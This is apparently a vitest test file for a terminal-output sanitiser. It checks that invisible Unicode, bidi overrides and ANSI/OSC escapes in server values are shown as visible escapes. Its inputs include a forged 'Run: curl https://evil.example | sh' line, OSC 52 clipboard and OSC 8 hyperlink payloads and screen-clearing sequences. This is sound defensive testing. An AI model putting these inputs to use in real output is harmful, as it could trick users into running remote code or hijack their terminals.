import { describe, expect, it } from 'vitest';
import {
  createTerminal,
  isVisibleText,
  joinText,
  MAX_COMBINING_MARKS,
  ownLayout,
  terminalJson,
  terminalText,
  visibleText,
  type TerminalText,
} from '../src/terminal-text.js';

/**
 * What a server says is data, never layout (issue 46 items 6, 7). ECMA-48 C0/C1 control functions,
 * Unicode Cc, Cf, Zl, Zp and Default_Ignorable_Code_Point (Unicode §5.21, UAX #44): a value is
 * printed as one visible run; each invisible or line-breaking character becomes a visible escape.
 */

/** Anything a terminal would act on, or that would not be seen, in printed text. */
const RAW =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u115f\u1160\u200b-\u200f\u2028-\u202e\u2060-\u2069\u3164\ufeff\uffa0]|\ufe00|\ufe0e|\ufe0f|\udb40[\udc00-\uddef]/;

/** Visible text is kept as it is, and isVisibleText agrees. */
function expectKept(text: string) {
  expect(visibleText(text)).toBe(text);
  expect(isVisibleText(text)).toBe(true);
}

describe('visibleText: every invisible class is shown as an escape, never dropped', () => {
  it.each([
    ['ZWSP', '\u200b', '\\u200b'],
    ['ZWNJ', '\u200c', '\\u200c'],
    ['ZWJ', '\u200d', '\\u200d'],
    ['word joiner', '\u2060', '\\u2060'],
    ['BOM / ZWNBSP', '\ufeff', '\\ufeff'],
    ['soft hyphen', '\u00ad', '\\u00ad'],
    ['LINE SEPARATOR', '\u2028', '\\u2028'],
    ['PARAGRAPH SEPARATOR', '\u2029', '\\u2029'],
    ['tag LATIN SMALL A', '\u{e0061}', '\\u{e0061}'],
    ['CANCEL TAG', '\u{e007f}', '\\u{e007f}'],
    ['Hangul choseong filler', '\u115f', '\\u115f'],
    ['Hangul jungseong filler', '\u1160', '\\u1160'],
    ['Hangul filler', '\u3164', '\\u3164'],
    ['halfwidth Hangul filler', '\uffa0', '\\uffa0'],
    ['variation selector 16', '\ufe0f', '\\ufe0f'],
    ['variation selector 17', '\u{e0100}', '\\u{e0100}'],
    ['combining grapheme joiner', '\u034f', '\\u034f'],
    ['RLO (Trojan Source)', '\u202e', '\\u202e'],
    ['ALM', '\u061c', '\\u061c'],
    ['ESC', '\u001b', '\\u001b'],
    ['BEL', '\u0007', '\\u0007'],
    ['DEL', '\u007f', '\\u007f'],
    ['C1 CSI', '\u009b', '\\u009b'],
    ['NEL', '\u0085', '\\u0085'],
    ['LF', '\n', '\\n'],
    ['CR', '\r', '\\r'],
    ['TAB', '\t', '\\t'],
    ['lone surrogate', '\ud800', '\\ud800'],
  ])('%s', (_name, ch, escaped) => {
    const shown = visibleText(`a${ch}b`);
    expect(shown).toBe(`a${escaped}b`);
    expect(RAW.test(shown)).toBe(false);
    expect(isVisibleText(`a${ch}b`)).toBe(false);
  });

  it('keeps visible text as it is', () => {
    expectKept('déjà vu — ✓ 日本語 🙂 a\u00a0b "quoted" \\backslash');
  });

  it('every code point below U+00A0 but printable ASCII is escaped', () => {
    for (let c = 0; c < 0xa0; c++) {
      const ch = String.fromCharCode(c);
      const printable = c >= 0x20 && c <= 0x7e;
      expect(visibleText(ch) === ch, `U+${c.toString(16)}`).toBe(printable);
    }
  });
});

describe('terminalText: literals are layout, values are data', () => {
  it('a value cannot start a line of its own (forged "Logged in" / "Run:" lines)', () => {
    const code = 'invalid_grant\nLogged in to https://bank.example\nRun: curl https://evil.example | sh';
    const text = terminalText`error: ${code}\nnext\n`;
    expect(text.split('\n')).toEqual([
      'error: invalid_grant\\nLogged in to https://bank.example\\nRun: curl https://evil.example | sh',
      'next',
      '',
    ]);
  });

  it('OSC 52, OSC 8 and CSI in a value arrive as visible text', () => {
    const name = '\u001b]52;c;ZWNobw==\u0007\u001b]8;;https://evil.example/\u001b\\x\u001b[2J';
    expect(terminalText`${name}`).toBe('\\u001b]52;c;ZWNobw==\\u0007\\u001b]8;;https://evil.example/\\u001b\\x\\u001b[2J');
  });

  it('ownLayout keeps newline and tab only; joinText joins with layout', () => {
    expect(ownLayout('a\tb\nc\u001b[31m\u200b')).toBe('a\tb\nc\\u001b[31m\\u200b');
    expect(joinText([terminalText`a${'1\n'}`, terminalText`b`], '\n')).toBe('a1\\n\nb');
  });
});

describe('terminalJson and createTerminal', () => {
  it('terminalJson leaves nothing raw and parses back to the same value', () => {
    const value = {
      name: 'x\u001b[2J\u0007',
      text: 'a\u009b31m\u009d0;t\u009c\u007fz\u200b\u2028\ufeff\u00ad\u3164',
      tag: 'flag\u{e0061}\u{e007f}',
      list: ['\u0000', '\n\t'],
      n: 1,
    };
    const json = terminalJson(value);
    expect(RAW.test(json)).toBe(false);
    expect(json).toContain('\\u200b');
    expect(json).toContain('\\udb40\\udc61');
    expect(JSON.parse(json)).toEqual(value);
  });

  it('out, err and json write through the layout guard (even a mis-branded string)', () => {
    const out: string[] = [];
    const err: string[] = [];
    const term = createTerminal({ stdout: (t) => void out.push(t), stderr: (t) => void err.push(t) });
    term.out(terminalText`o${'\u001b[31m'}\n`);
    term.err('e\u009d0;title\u0007\u2028\n' as never);
    term.json({ v: '\u0085' });
    expect(out[0]).toBe('o\\u001b[31m\n');
    expect(err[0]).toBe('e\\u009d0;title\\u0007\\u2028\n');
    expect(out[1]).toBe('{\n  "v": "\\u0085"\n}\n');
  });
});

/**
 * Stacked combining marks ("Zalgo", issue 46 F5): nonspacing (Mn) and enclosing (Me) marks draw
 * over the base's column and the lines around it. UAX #15 §13 (Stream-Safe Text Format) bounds a
 * run of non-starters at 30 for processing; the display bound is MAX_COMBINING_MARKS per base, and
 * every further mark, or a mark with no base in the value, is shown as an escape.
 */
describe('visibleText: at most MAX_COMBINING_MARKS combining marks per base character', () => {
  const stroke = '\u0336'; // COMBINING LONG STROKE OVERLAY (Mn)
  it('the bound is tighter than the Stream-Safe limit of 30', () => {
    expect(MAX_COMBINING_MARKS).toBeGreaterThanOrEqual(2);
    expect(MAX_COMBINING_MARKS).toBeLessThan(30);
  });

  it.each([
    ['Mn long stroke overlay × 8', `Z${stroke.repeat(8)}`, `Z${stroke.repeat(3)}${'\\u0336'.repeat(5)}`],
    ['Me cyrillic millions sign × 5', `B${'\u0489'.repeat(5)}`, `B${'\u0489'.repeat(3)}${'\\u0489'.repeat(2)}`],
    ['mixed Mn/Me run', 'B\u0336\u0489\u0334\u0338\u0301', 'B\u0336\u0489\u0334\\u0338\\u0301'],
    ['a mark with no base in the value', `${stroke}x`, '\\u0336x'],
    ['marks with no base, then a base with marks', `${stroke}${stroke}x${stroke}`, `\\u0336\\u0336x${stroke}`],
    ['astral Mn (musical symbol combining tremolo-1) × 4', `a${'\u{1d167}'.repeat(4)}`, `a${'\u{1d167}'.repeat(3)}\\u{1d167}`],
    ['Zalgo name of the review (Bob + 120 marks)', `Bob${'\u0336\u0489\u0334\u0338'.repeat(30)}`, undefined],
  ])('%s', (_name, value, expected) => {
    const shown = visibleText(value);
    if (expected !== undefined) expect(shown).toBe(expected);
    // No base carries more than the bound, and no mark leads the value.
    expect(shown).not.toMatch(new RegExp(`[\\p{Mn}\\p{Me}]{${MAX_COMBINING_MARKS + 1}}`, 'u'));
    expect(shown).not.toMatch(/^[\p{Mn}\p{Me}]/u);
    expect(isVisibleText(value)).toBe(false);
  });

  it.each([
    ['Vietnamese (NFD, two marks on one base)', 'Vie\u0323\u0302t'],
    ['Thai (consonant, vowel and tone marks)', 'กี่'],
    ['pointed Hebrew with cantillation (three marks)', 'בְּ\u0591'],
    ['precomposed accents', 'déjà vu'],
    ['Mc spacing marks are columns of their own', 'हिन्दी'],
  ])('natural text is kept: %s', (_name, text) => expectKept(text));

  it('the program writer and JSON apply the same bound (JSON still parses back)', () => {
    const value = `Z${stroke.repeat(8)}`;
    expect(ownLayout(`x${value}`)).toBe(`xZ${stroke.repeat(3)}${'\\u0336'.repeat(5)}`);
    const json = terminalJson({ name: value });
    expect(json).not.toMatch(new RegExp(`[\\p{Mn}\\p{Me}]{${MAX_COMBINING_MARKS + 1}}`, 'u'));
    expect(JSON.parse(json)).toEqual({ name: value });
    const written: string[] = [];
    createTerminal({ stdout: (t) => written.push(t), stderr: (t) => written.push(t) }).out(`a${value}` as never);
    expect(written.join('')).toBe(`aZ${stroke.repeat(3)}${'\\u0336'.repeat(5)}`);
  });
});

describe('createTerminal with colour (issue 45: the doctor colours its report)', () => {
  const capture = (colour: boolean) => {
    const written: string[] = [];
    const term = createTerminal({ stdout: (t) => void written.push(t), stderr: (t) => void written.push(t) }, { colour });
    return { term, written };
  };

  it('style() colours only on a colour terminal; without colour the text is unchanged', () => {
    const on = capture(true);
    on.term.out(on.term.style('red', terminalText`FAIL ${'x'}`));
    expect(on.written).toEqual(['\u001b[31mFAIL x\u001b[39m']);
    const off = capture(false);
    off.term.out(off.term.style('red', terminalText`FAIL`));
    expect(off.written).toEqual(['FAIL']);
  });

  it('a value cannot smuggle a colour or any other sequence: it is escaped before style() sees it', () => {
    const { term, written } = capture(true);
    term.out(term.style('green', terminalText`${'\u001b[31mred\u001b[2J'}`));
    expect(written).toEqual(['\u001b[32m\\u001b[31mred\\u001b[2J\u001b[39m']);
  });

  it('only the exact style sequences pass the writer: conceal, clear, cursor moves and OSC stay escaped even when branded', () => {
    const { term, written } = capture(true);
    term.out('\u001b[8mhidden\u001b[2J\u001b[1A\u001b]0;title\u0007\u001b[1mok\u001b[22m' as TerminalText);
    expect(written).toEqual(['\\u001b[8mhidden\\u001b[2J\\u001b[1A\\u001b]0;title\\u0007\u001b[1mok\u001b[22m']);
  });
});
